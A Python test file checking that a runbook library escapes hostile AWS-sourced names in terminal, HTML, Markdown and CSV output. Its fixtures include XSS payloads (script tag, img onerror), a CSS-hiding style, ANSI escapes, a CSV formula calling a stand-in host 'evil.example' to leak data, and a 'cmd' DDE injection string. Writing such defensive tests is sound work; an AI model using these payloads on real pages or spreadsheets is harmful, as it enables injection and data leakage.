"""Escaping: hostile names from AWS render as text in the terminal, HTML, Markdown and CSV."""

import csv
import io
from html.parser import HTMLParser

import pandas as pd
import pytest

from runbook_lib import render
from runbook_lib.checks import FAIL, Check, checks_table, controls_table

#: Names an attacker can give a zip or layer member (or put in an AWS error message).
SCRIPT = "<script>document.body.appendChild(document.createElement('x-'+'pwned'))</script>"
IMG = "<img src=x onerror=\"document.body.appendChild(document.createElement('y-'+'pwned'))\">"
STYLE = "<style>td{display:none}</style>"
FORMULA = '=HYPERLINK("http://evil.example/?leak","open me")'
ANSI = "\x1b[2J\x1b[31mPASS\x1b[0m"
PIPE = "a|b`c`"
HOSTILE = [SCRIPT, IMG, STYLE, FORMULA, ANSI, PIPE]


class Elements(HTMLParser):
    """Every start tag with its attributes, and the text, of an HTML document."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.script_text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        (self.script_text if self._in_script else self.text).append(data)


def parse(document: str) -> Elements:
    parser = Elements()
    parser.feed(document)
    return parser


def assert_inert(document: str, hostile=HOSTILE) -> None:
    """No element, attribute or script came from the hostile names; each shows as text."""
    found = parse(document)
    # the only image a page may hold is a chart the runbook drew, embedded as a PNG data URI
    charts = [a for t, a in found.tags if t == "img" and (a.get("src") or "").startswith("data:image/png;base64,")]
    assert [t for t, a in found.tags if t in ("img", "iframe", "object", "embed", "base", "form")
            and not any(a is c for c in charts)] == []
    assert [(t, a) for t, attrs in found.tags for a in attrs if a.lower().startswith("on")] == []
    assert [s for s in found.script_text if "pwned" in s] == []
    assert "display:none" not in " ".join(attrs.get("style") or "" for _, attrs in found.tags)
    text = "".join(found.text)
    for name in hostile:
        assert render.visible(name) in text, name


def test_terminal_makes_control_characters_visible():
    assert render.terminal("ok") == "ok"
    assert render.terminal(ANSI) == "\\x1b[2J\\x1b[31mPASS\\x1b[0m"
    assert render.terminal("line\nnext\rover") == "line\\x0anext\\x0dover"
    assert render.terminal("evil\u202etxt.exe\x00\x7f\x9b") == "evil\\u202etxt.exe\\x00\\x7f\\x9b"
    assert render.terminal("naïve ünïcode ✓") == "naïve ünïcode ✓"


def test_html_text_escapes_markup_and_quotes():
    assert render.html_text(IMG) == ("&lt;img src=x onerror=&quot;document.body.appendChild(document."
                                     "createElement(&#x27;y-&#x27;+&#x27;pwned&#x27;))&quot;&gt;")
    assert render.html_text(ANSI).startswith("\\x1b[2J")


def test_md_cell_keeps_one_row_and_renders_the_text():
    row = "| " + " | ".join(render.md_cell(v) for v in ["id", PIPE + "\nnext | row", SCRIPT, ANSI]) + " |"
    assert "\n" not in row and "\x1b" not in row
    cells = [c for c in _split_markdown_row(row)]
    assert len(cells) == 4
    assert "<" not in row.replace("\\<", "")
    assert render.md_cell("`code` *b* [l](u) ~s~ &amp; DB_PASSWORD") == \
        "\\`code\\` \\*b\\* \\[l\\](u) \\~s\\~ \\&amp; DB_PASSWORD"


def _split_markdown_row(row: str) -> list[str]:
    """Cells of a GFM table row: split at pipes that are not backslash-escaped."""
    cells, current, escaped = [], "", False
    for ch in row.strip()[1:-1]:
        if ch == "|" and not escaped:
            cells.append(current)
            current = ""
        else:
            current += ch
        escaped = ch == "\\" and not escaped
    return cells + [current]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell_neutralises_every_formula_prefix(prefix):
    cell = render.csv_cell(prefix + "cmd|' /C calc'!A0")
    assert not cell.startswith(render.FORMULA_PREFIXES)
    assert render.csv_cell(cell) == cell  # idempotent


def test_csv_cell_leaves_numbers_and_plain_text_alone():
    assert [render.csv_cell(v) for v in ["-12.5", "+3", "1e-5", "orders-api", 42, None]] == [
        "-12.5", "+3", "1e-5", "orders-api", 42, None]
    assert render.csv_cell(FORMULA) == "'" + FORMULA


def test_csv_safe_frame_and_neutralise_csv_file(tmp_path):
    frame = pd.DataFrame([{"where": FORMULA, "line": 3, "note": ANSI}])
    safe = render.csv_safe_frame(frame)
    assert safe.loc[0, "where"] == "'" + FORMULA and safe.loc[0, "line"] == 3
    assert frame.loc[0, "where"] == FORMULA  # a copy: the caller's frame is not changed
    path = tmp_path / "findings.csv"
    frame.to_csv(path, index=False)
    assert render.neutralise_csv_file(path) is True
    rows = list(csv.reader(io.StringIO(path.read_text())))
    assert rows[1] == ["'" + FORMULA, "3", "\\x1b[2J\\x1b[31mPASS\\x1b[0m"]
    before = path.read_bytes()
    assert render.neutralise_csv_file(path) is False and path.read_bytes() == before
    clean = tmp_path / "inventory.csv"
    clean.write_bytes(b"function,versions\r\norders-api,-1\r\n")
    assert render.neutralise_csv_file(clean) is False and clean.read_bytes() == b"function,versions\r\norders-api,-1\r\n"


def test_escaped_style_escapes_cells_index_and_columns():
    frame = pd.DataFrame({SCRIPT: [IMG, STYLE], "n": [1, 2]}, index=[FORMULA, PIPE])
    document = render.escaped_style(frame).to_html()
    assert_inert(document, hostile=[SCRIPT, IMG, STYLE, FORMULA, PIPE])
    # pandas' default Styler does not escape: the reason this module exists
    assert "<img src=x" in frame.style.to_html()


def test_checks_and_controls_tables_escape_names_from_aws():
    checks = [Check(id="no-secrets-in-code", title="No secret in code", phase="baseline", status=FAIL,
                    reason="2 secrets in code packages: " + ", ".join(HOSTILE), controls=["IA-5"])]
    assert_inert(checks_table(checks).to_html())
    assert_inert(checks_table(checks)._repr_html_())
    assert parse(controls_table(checks).to_html()).tags  # renders, and with only our own names
    # pandas escapes a DataFrame itself (and shortens long cells, so only inertness is asserted)
    assert_inert(pd.DataFrame({"where": HOSTILE})._repr_html_(), hostile=[])


def test_tables_of_no_checks_still_render():
    assert "<table" in checks_table([]).to_html() and "<table" in controls_table([]).to_html()


def test_inert_html_document_puts_the_policy_first_in_head():
    page = render.inert_html_document('<!DOCTYPE html><html><head><meta charset="utf-8"/><script>x</script>')
    head = page.split("<head>", 1)[1]
    assert head.startswith('<meta http-equiv="Content-Security-Policy"')
    assert "script-src" not in render.CONTENT_SECURITY_POLICY and "default-src 'none'" in head
    with pytest.raises(ValueError, match="no <head>"):
        render.inert_html_document("<html><body>no head</body></html>")


def test_exported_pages_wrap_long_words_with_a_style_last_in_the_head():
    page = render.inert_html_document("<html><head><style>td{white-space:nowrap}</style></head><body></body></html>")
    head = page.split("</head>", 1)[0]
    assert head.rstrip().endswith(f"<style>{render.READABLE_CSS}</style>") and "overflow-wrap: anywhere" in head


def test_show_full_tables_lets_pandas_print_every_character_row_and_column():
    import pandas as pd

    identity = "arn:aws:sts::123456789012:assumed-role/orders-api-role/orders-api"
    frame = pd.DataFrame({"identity": [identity] * 80})
    with pd.option_context("display.max_colwidth", 50, "display.max_rows", 60):
        assert identity not in frame._repr_html_()  # pandas' defaults cut it: what the notebooks showed
        render.show_full_tables()
        html = frame._repr_html_()
    assert html.count(identity) == 80 and "..." not in html


def test_readable_table_escapes_and_wraps_every_cell():
    import pandas as pd

    html = render.readable_table(pd.DataFrame({"name": ["<b>x</b>", "y" * 300]})).to_html()
    assert "&lt;b&gt;x&lt;/b&gt;" in html and "y" * 300 in html and "overflow-wrap: anywhere" in html


def test_a_pass_row_of_the_checks_table_shows_its_evidence_line():
    from runbook_lib.checks import PASS, Check

    ok = Check("change-secret", "Secret created", "change", PASS, evidence={"detail": "secret s holds 2 variable(s)"},
               controls=["IA-5"])
    html = checks_table([ok]).to_html()
    assert "reason and evidence" in html and "secret s holds 2 variable(s)" in html
